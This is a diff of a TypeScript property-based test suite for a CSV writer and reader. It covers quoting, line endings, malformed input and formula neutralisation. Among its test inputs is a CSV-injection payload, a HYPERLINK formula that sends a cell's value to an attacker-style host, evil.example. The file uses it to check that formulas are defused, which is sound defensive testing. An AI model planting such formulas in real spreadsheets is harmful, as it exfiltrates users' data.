@@ -13,9 +13,22 @@ import { csvCell, csvRecord, csvText } from '../src/csv/write.js';
 
 /** Text made of the characters CSV and spreadsheets treat specially, and some that they do not. */
 const nastyText = fc.oneof(
-  fc.string({ unit: fc.constantFrom('"', ',', '\n', '\r', '\r\n', "'", '=', '+', '-', '@', '\t', ' ', 'a', '1', '中', '医'), maxLength: 12 }),
+  fc.string({
+    unit: fc.constantFrom('"', ',', '\n', '\r', '\r\n', "'", '=', '+', '-', '@', '\t', ' ', 'a', '1', '中', '医'),
+    maxLength: 12,
+  }),
   fc.string({ unit: 'grapheme', maxLength: 12 }),
-  fc.constantFrom('=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1+1)', "'=1", "''", "'", 'true', ''),
+  fc.constantFrom(
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    '+1+1',
+    '-2+3',
+    '@SUM(1+1)',
+    "'=1",
+    "''",
+    "'",
+    'true',
+    '',
+  ),
 );
 const recordsArb = fc.array(fc.array(nastyText, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 8 });
 const cellsOf = (rs: CsvRecord[]) => rs.map((r) => ('cells' in r ? r.cells : r.problem));
@@ -60,7 +73,9 @@ describe('the CSV writer and reader', () => {
         fc.constantFrom('unix', 'windows') as fc.Arbitrary<'unix' | 'windows'>,
         (records, eol) => {
           const ours = records.map((r) => `${csvRecord(r)}\r\n`).join('');
-          expect(csvParse(ours, { relax_column_count: true, record_delimiter: ['\r\n'] })).toEqual(records.map((r) => r.map(neutraliseFormula)));
+          expect(csvParse(ours, { relax_column_count: true, record_delimiter: ['\r\n'] })).toEqual(
+            records.map((r) => r.map(neutraliseFormula)),
+          );
           // csv-stringify quotes a cell only for the record delimiter it writes: a lone LF or CR in
           // a cell would then be read as a line end by any reader that accepts both, so ask for it.
           const theirs = csvStringify(records, { record_delimiter: eol, quoted_match: /[\r\n]/ });
@@ -90,10 +105,12 @@ describe('formula cells (CSV injection)', () => {
   });
 
   it('neutralising and restoring are inverse for every string', () => {
-    fc.assert(fc.property(fc.string({ unit: 'grapheme' }), nastyText, (a, b) => {
-      expect(restoreFormula(neutraliseFormula(a))).toBe(a);
-      expect(restoreFormula(neutraliseFormula(b))).toBe(b);
-    }));
+    fc.assert(
+      fc.property(fc.string({ unit: 'grapheme' }), nastyText, (a, b) => {
+        expect(restoreFormula(neutraliseFormula(a))).toBe(a);
+        expect(restoreFormula(neutraliseFormula(b))).toBe(b);
+      }),
+    );
   });
 
   it("a cell written by someone else keeps its ' unless a formula character or another ' follows it", () => {
@@ -103,9 +120,31 @@ describe('formula cells (CSV injection)', () => {
 
 describe('the reader', () => {
   it.each([
-    ['a quoted cell holds commas, quotes and line breaks', 'a,"b,""c""\r\nd"\r\ne,f\n', [['a', 'b,"c"\r\nd'], ['e', 'f']], [1, 3]],
-    ['LF and CRLF line ends, no line end at the end', 'a,b\nc,d\r\ne,f', [['a', 'b'], ['c', 'd'], ['e', 'f']], [1, 2, 3]],
-    ['blank lines (empty or spaces and tabs) are skipped, line numbers kept', 'a\n\n \t\r\nb\n', [['a'], ['b']], [1, 4]],
+    [
+      'a quoted cell holds commas, quotes and line breaks',
+      'a,"b,""c""\r\nd"\r\ne,f\n',
+      [
+        ['a', 'b,"c"\r\nd'],
+        ['e', 'f'],
+      ],
+      [1, 3],
+    ],
+    [
+      'LF and CRLF line ends, no line end at the end',
+      'a,b\nc,d\r\ne,f',
+      [
+        ['a', 'b'],
+        ['c', 'd'],
+        ['e', 'f'],
+      ],
+      [1, 2, 3],
+    ],
+    [
+      'blank lines (empty or spaces and tabs) are skipped, line numbers kept',
+      'a\n\n \t\r\nb\n',
+      [['a'], ['b']],
+      [1, 4],
+    ],
     ['empty cells are empty strings', ',,\n', [['', '', '']], [1]],
     ['a quoted empty cell alone is a record, not a blank line', '""\n', [['']], [1]],
   ])('%s', (_, text, cells, lines) => {
@@ -116,13 +155,24 @@ describe('the reader', () => {
 
   it.each([
     ['a quote inside a cell that is not quoted', 'id\nab"c"d\n', 'cell 1: a quote inside a cell that is not quoted'],
-    ['a single stray quote (it opens a cell that never closes)', 'id\nab"c\nd\n', 'a quoted cell is not closed before the end of the input'],
+    [
+      'a single stray quote (it opens a cell that never closes)',
+      'id\nab"c\nd\n',
+      'a quoted cell is not closed before the end of the input',
+    ],
     ['text after a closing quote', 'id\n"ab"c,d\n', 'cell 1: text after the closing quote'],
-    ['a quote left open at the end of the input', 'id\n"abc\ndef\n', 'a quoted cell is not closed before the end of the input'],
+    [
+      'a quote left open at the end of the input',
+      'id\n"abc\ndef\n',
+      'a quoted cell is not closed before the end of the input',
+    ],
   ])('refuses %s, with the line the record starts on', (_, text, detail) => {
     const rs = parseCsv(text);
     expect(rs[0]).toEqual({ line: 1, cells: ['id'] });
-    expect(rs[1]).toEqual({ line: 2, problem: { kind: 'malformed', detail: expect.stringContaining(detail), zh: expect.any(String) } });
+    expect(rs[1]).toEqual({
+      line: 2,
+      problem: { kind: 'malformed', detail: expect.stringContaining(detail), zh: expect.any(String) },
+    });
   });
 
   it('reports a record beyond the limit without holding it, and reads on', () => {
@@ -136,7 +186,14 @@ describe('the reader', () => {
 
   it('reports a record that is not UTF-8, and reads on', () => {
     const reader = new CsvReader(1 << 20);
-    const rs = [...reader.push(Buffer.concat([Buffer.from('a\n'), Buffer.from([0xff, 0x0a]), Buffer.from('b\n')])), ...reader.end()];
-    expect(rs).toEqual([{ line: 1, cells: ['a'] }, { line: 2, problem: { kind: 'invalid_utf8' } }, { line: 3, cells: ['b'] }]);
+    const rs = [
+      ...reader.push(Buffer.concat([Buffer.from('a\n'), Buffer.from([0xff, 0x0a]), Buffer.from('b\n')])),
+      ...reader.end(),
+    ];
+    expect(rs).toEqual([
+      { line: 1, cells: ['a'] },
+      { line: 2, problem: { kind: 'invalid_utf8' } },
+      { line: 3, cells: ['b'] },
+    ]);
   });
 });
